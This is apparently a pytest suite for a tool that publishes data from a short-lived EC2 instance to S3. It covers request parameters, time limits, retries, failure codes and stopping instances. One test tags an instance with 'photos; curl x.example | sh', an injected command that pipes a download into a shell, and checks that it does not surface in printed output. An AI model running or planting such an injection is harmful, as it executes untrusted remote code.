"""launch.data publish s3://... --by instance: its requests, what is left in the account, and what other commands do."""

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from moto.iam.models import iam_backends
from moto.scheduler.models import scheduler_backends
from pydantic import TypeAdapter

from launch.aws.client import Aws
from launch.aws.instances.inventory import find
from launch.aws.names import is_ours, tags
from launch.data.on_ec2.commands import Follower
from launch.data.on_ec2.facts import PUBLISHES_TAG, Run, running
from launch.ec2 import leaks
from tests.launch.data.on_ec2.desk import NAME, SHUT_DOWN, Ec2Desk, opened, tags_of
from tests.launch.faults import Died, Fault, Faults, died_after, injected, lost, refused, throttled
from trainer.errors import TrainerError


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Ec2Desk]:
    with opened(tmp_path) as desk:
        yield desk


def goes_on(_desk: Ec2Desk, _instance: Any) -> None:
    """An instance that does not end."""


def leaves(_desk: Ec2Desk, _instance: Any) -> None:
    """The user presses Ctrl-C, and the instance goes on."""
    raise KeyboardInterrupt


def die_after_the_start(desk: Ec2Desk) -> None:
    """The command is killed as soon as its instance runs, which goes on."""
    desk.node = goes_on
    with injected(Faults().on("RunInstances", died_after())), pytest.raises(Died):
        desk.publish_s3()


def test_an_instance_publishes_and_nothing_of_it_is_left(desk: Ec2Desk) -> None:
    assert desk.publish_s3() == 0, desk.text + "\n".join(desk.node_output)

    (snapshot,) = desk.snapshots()
    assert (desk.record["state"], desk.record["snapshot"], desk.record["verified"]) == ("published", snapshot.id, "all")
    assert (desk.ran, desk.billed()) == (1, [])

    assert desk.type("delete", NAME, "--yes") == 0, desk.text
    assert [key for key in desk.account.s3_keys() if not key.startswith("sources/")] == []


# ---- the requests


def test_the_instance_is_as_careful_as_a_jobs_node(desk: Ec2Desk) -> None:
    """https://docs.aws.amazon.com/AWSEC2/latest/APIReference/API_RunInstances.html"""
    desk.node = Ec2Desk.pretend_on
    assert desk.publish_s3("--max-hours", "2") == 0, desk.text

    (asked,) = [call.params for call in desk.account.requests if call.operation == "RunInstances"]
    assert (asked["MinCount"], asked["MaxCount"], asked["InstanceType"]) == (1, 1, "c6id.xlarge")
    assert asked["MetadataOptions"] == {"HttpTokens": "required", "HttpEndpoint": "enabled",
                                        "HttpPutResponseHopLimit": 1}  # fmt: skip
    assert asked["InstanceInitiatedShutdownBehavior"] == "terminate"
    assert asked["IamInstanceProfile"] == {"Name": "aws-ddp-toolkit-publisher"}
    assert not {"KeyName", "InstanceMarketOptions"} & asked.keys()
    assert [disk["Ebs"]["Encrypted"] for disk in asked["BlockDeviceMappings"]] == [True]
    assert "\nMINUTES=120" in asked["UserData"]
    for kind in asked["TagSpecifications"]:
        values = {tag["Key"]: tag["Value"] for tag in kind["Tags"]}
        assert is_ours(values)
        assert values["aws-ddp-toolkit:owner"]


def test_its_group_and_time_limit_are_there_before_anything_is_billed(desk: Ec2Desk) -> None:
    desk.node = Ec2Desk.pretend_on
    assert desk.publish_s3("--max-hours", "2") == 0, desk.text

    made = {call.operation: call.params for call in desk.writes()}
    assert list(made).index("CreateSchedule") < list(made).index("RunInstances")
    assert made["CreateSchedule"]["ActionAfterCompletion"] == "DELETE"
    assert re.fullmatch(r"at\(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\)", made["CreateSchedule"]["ScheduleExpression"])
    assert "AuthorizeSecurityGroupIngress" not in made
    (port,) = made["AuthorizeSecurityGroupEgress"]["IpPermissions"]
    assert (port["IpProtocol"], port["FromPort"], port["ToPort"]) == ("tcp", 443, 443)
    assert "RevokeSecurityGroupEgress" in made


def test_leaks_and_sweeper_know_it_as_a_jobs_node(desk: Ec2Desk) -> None:
    die_after_the_start(desk)
    (there,) = desk.instances
    fleet = find(desk.account.aws())
    (leak,) = leaks.leaks_of(fleet, "us-east-1", fleet.living[0].launched_at)
    assert (leak.job, leak.is_leak, tags_of(there)["aws-ddp-toolkit:job"]) == (desk.run["id"], False, desk.run["id"])
    (limit,) = scheduler_backends[desk.account.id]["us-east-1"].schedule_groups["aws-ddp-toolkit"].schedules
    assert limit == f"aws-ddp-toolkit-{desk.run['id']}"


# ---- the same command again


def test_after_ctrl_c_the_same_command_follows_the_same_instance(desk: Ec2Desk) -> None:
    desk.node = leaves
    assert desk.publish_s3() == 130
    (there,) = desk.instances
    assert desk.type("list") == 0
    assert f"{there.id} (c6id.xlarge) publishes {NAME}, until " in desk.text
    desk.account.put_json(f"data/{NAME}/published.json", {"name": NAME, "state": "published", "digest": 64 * "0"})
    assert desk.type("delete", NAME, "--yes") == 2  # the instance would publish it again
    assert desk.publish_s3("--originals") == 2  # other settings
    desk.account.objects().pop(f"data/{NAME}/published.json")

    desk.node = Ec2Desk.pretend_on
    since = len(desk.account.requests)
    assert desk.publish_s3() == 0, desk.text
    assert (desk.ran, desk.billed()) == (1, [])
    assert "RunInstances" not in [call.operation for call in desk.writes(since)]
    assert desk.publish_s3() == 0  # it is published already
    assert desk.ran == 1


def test_of_two_commands_at_once_the_second_joins_the_first(desk: Ec2Desk) -> None:
    """https://docs.aws.amazon.com/AmazonS3/latest/userguide/conditional-writes.html: 412 for the second.  Here the
    first is this command's own: its answer was lost, and botocore repeats the request.
    """
    desk.node = Ec2Desk.pretend_on
    with injected(Faults()) as faults:
        faults.on("PutObject", lost(attempts=1), nth=2)  # the first is the code
        assert desk.publish_s3() == 0, desk.text
    notes = [call.params for call in desk.writes() if call.params.get("Key", "").endswith("run.json")]
    assert [note.get("IfNoneMatch") or bool(note.get("IfMatch")) for note in notes] == ["*", True]
    assert (desk.ran, desk.billed()) == (1, [])


def test_the_follower_of_an_earlier_run_leaves_the_next_one_alone(desk: Ec2Desk) -> None:
    """As on a laptop that slept meanwhile."""
    desk.node = Ec2Desk.pretend_on
    assert desk.publish_s3() == 0, desk.text
    earlier = TypeAdapter(Run).validate_python(desk.run)
    desk.node = leaves
    assert desk.publish_s3("--replace") == 130
    (there,) = desk.instances

    desk.node = goes_on
    with pytest.raises(TrainerError, match="without a record"):
        Follower(desk.account.aws(), desk.clock, desk.said.append, earlier).follow()
    assert [one.id for one in desk.instances] == [there.id]
    assert desk.run["ended"] == ""


# ---- failures


@pytest.mark.parametrize(
    ("code", "expected"), [(3, 3), ("0; true", 1), (None, 1), ([], 1), (1e400, 1), (-1, 1), (256, 1)], ids=str
)
def test_a_failure_on_the_instance_ends_the_command_with_its_code_and_reason(
    code: object, expected: int, desk: Ec2Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    """Also a record that is damaged."""

    def fails(desk: Ec2Desk, instance: Any) -> None:
        desk.say_end(instance, code, "cat/0.jpg cannot be read.")
        desk.account.kill(instance.id, SHUT_DOWN)

    desk.node = fails
    assert desk.publish_s3() == expected
    shown = capsys.readouterr().err
    assert "cat/0.jpg cannot be read." in shown
    assert f"data-runs/{NAME}/log.txt" in shown
    assert desk.billed() == []


def test_an_instance_that_hangs_is_ended_at_its_time_limit(desk: Ec2Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    desk.node = goes_on
    monkeypatch.setattr("launch.data.on_ec2.commands.LOOK_S", 240.0)
    assert desk.publish_s3("--max-hours", "0.5") == 6, desk.text
    assert desk.billed() == []


@pytest.mark.parametrize("problem", ["capacity", "quota"])
def test_a_refused_instance_leaves_nothing(problem: str, desk: Ec2Desk, capsys: pytest.CaptureFixture[str]) -> None:
    faults = Faults()
    if problem == "capacity":
        desk.account.capacity.update(dict.fromkeys(desk.account.subnets, 0))
    else:
        faults.on("RunInstances", refused("VcpuLimitExceeded", 400))
    with injected(faults):
        assert desk.publish_s3() == 4
    assert f"no {problem}" in (shown := capsys.readouterr().err) or f"{problem} is used up" in shown
    assert desk.billed() == []


def test_a_missing_role_is_named_with_the_command_that_makes_it(
    desk: Ec2Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    iam_backends[desk.account.id]["aws"].instance_profiles.clear()
    assert desk.publish_s3() == 4
    assert "python -m launch.infra up" in capsys.readouterr().err


# ---- stop


def test_stop_leaves_only_the_snapshot_which_the_same_command_continues(desk: Ec2Desk) -> None:
    with injected(Faults().on("PutSnapshotBlock", died_after(), nth=2)), pytest.raises(Died):
        desk.publish_s3()
    (pending,) = desk.snapshots()
    assert len(desk.instances) == 1

    desk.node = goes_on
    assert desk.type("stop", NAME) == 0, desk.text
    assert (desk.instances, desk.billed()) == ([], [])

    desk.node = Ec2Desk.publish_on
    assert desk.publish_s3() == 0, desk.text
    assert [one.id for one in desk.snapshots()] == [pending.id]
    assert desk.type("stop", NAME) == 0
    assert f"no instance publishes {NAME}" in desk.text


@pytest.mark.parametrize(
    ("operation", "fault"),
    [
        *((name, throttled()) for name in ("TerminateInstances", "DescribeInstances", "DeleteSecurityGroup",
                                           "GetObject", "PutObject", "GetCallerIdentity")),
        ("TerminateInstances", refused("InvalidInstanceID.NotFound", 400)),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_a_stop_retries(operation: str, fault: Fault, desk: Ec2Desk) -> None:
    """The account's users share its limit of requests; and EC2 may list an instance whose id it does not know yet."""
    die_after_the_start(desk)
    with injected(Faults().on(operation, fault)):
        assert desk.type("stop", NAME) == 0, desk.text
    assert (desk.instances, desk.billed()) == ([], [])


@pytest.mark.parametrize(("code", "status"), [("AccessDenied", 403), ("ServiceUnavailable", 503)])
def test_a_stop_ends_the_instance_without_s3(code: str, status: int, desk: Ec2Desk) -> None:
    """EC2 alone can end what costs money; S3 knows only the run."""
    die_after_the_start(desk)
    with injected(Faults().on("GetObject", refused(code, status), nth=None)):
        assert desk.type("stop", NAME) == 4
    assert desk.billed() == []
    assert desk.type("stop", NAME) == 0, desk.text
    assert desk.run["ended"]


# ---- instances of others


def start_another(desk: Ec2Desk, publishes: str) -> str:
    """An instance that a colleague has started to publish; return its id."""
    named = tags("demo", desk.account.bucket, datetime(2026, 1, 1, tzinfo=UTC), datetime(2199, 1, 1, tzinfo=UTC), "YOU")
    named.append({"Key": PUBLISHES_TAG, "Value": publishes})
    made = desk.account.aws().call("ec2", "RunInstances", {
        "ImageId": desk.account.ami, "InstanceType": "g5.2xlarge", "MinCount": 1, "MaxCount": 1,
        "SubnetId": desk.account.subnets["us-east-1a"],
        "TagSpecifications": [{"ResourceType": "instance", "Tags": named}],
    })  # fmt: skip
    return str(made["Instances"][0]["InstanceId"])


def test_a_colleagues_publication_is_listed_and_stopped(desk: Ec2Desk) -> None:
    start_another(desk, "photos; curl x.example | sh")
    theirs = start_another(desk, NAME)
    assert desk.type("list") == 0
    assert theirs in desk.text
    assert "curl" not in desk.text  # in a command that a user copies
    assert desk.type("stop", NAME) == 0, desk.text
    assert theirs not in [one.id for one in desk.instances]


def test_a_machine_without_the_tag_of_a_job_publishes_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    aws, node = Aws("us-east-1"), {"InstanceId": "i-1", "Tags": [{"Key": PUBLISHES_TAG, "Value": NAME}]}
    monkeypatch.setattr(aws, "pages", lambda *_: [{"Instances": [node]}])
    assert running(aws) == {}
